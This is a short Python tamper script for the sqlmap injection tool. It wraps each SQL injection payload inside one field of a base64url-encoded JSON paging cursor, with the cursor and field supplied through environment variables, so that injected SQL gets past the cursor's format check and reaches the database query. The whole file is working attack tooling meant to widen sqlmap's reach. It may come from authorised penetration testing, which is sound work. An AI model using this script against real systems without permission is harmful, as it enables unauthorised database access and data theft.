#!/usr/bin/env python3
"""
sqlmap tamper script: carries each payload into one field of a paging cursor (base64url JSON), so the
payload reaches the SQL statement the decoded cursor feeds instead of stopping at the cursor's format
check. The scan's environment says which cursor and field:

  BASTION_CURSOR        the cursor the server issued, which is also the scanned parameter's value
  BASTION_CURSOR_FIELD  the decoded field that receives the payload (e.g. email)
"""

import base64
import json
import os

from lib.core.enums import PRIORITY

__priority__ = PRIORITY.LOWEST


def dependencies():
    pass


def _decode(cursor):
    return json.loads(base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4)).decode("utf-8"))


def tamper(payload, **kwargs):
    cursor = os.environ["BASTION_CURSOR"]
    field = os.environ["BASTION_CURSOR_FIELD"]
    key = _decode(cursor)
    # sqlmap appends most payloads to the original value and replaces it for the rest.
    key[field] = key[field] + payload[len(cursor):] if payload.startswith(cursor) else payload
    encoded = base64.urlsafe_b64encode(json.dumps(key).encode("utf-8")).decode("ascii")
    return encoded.rstrip("=")
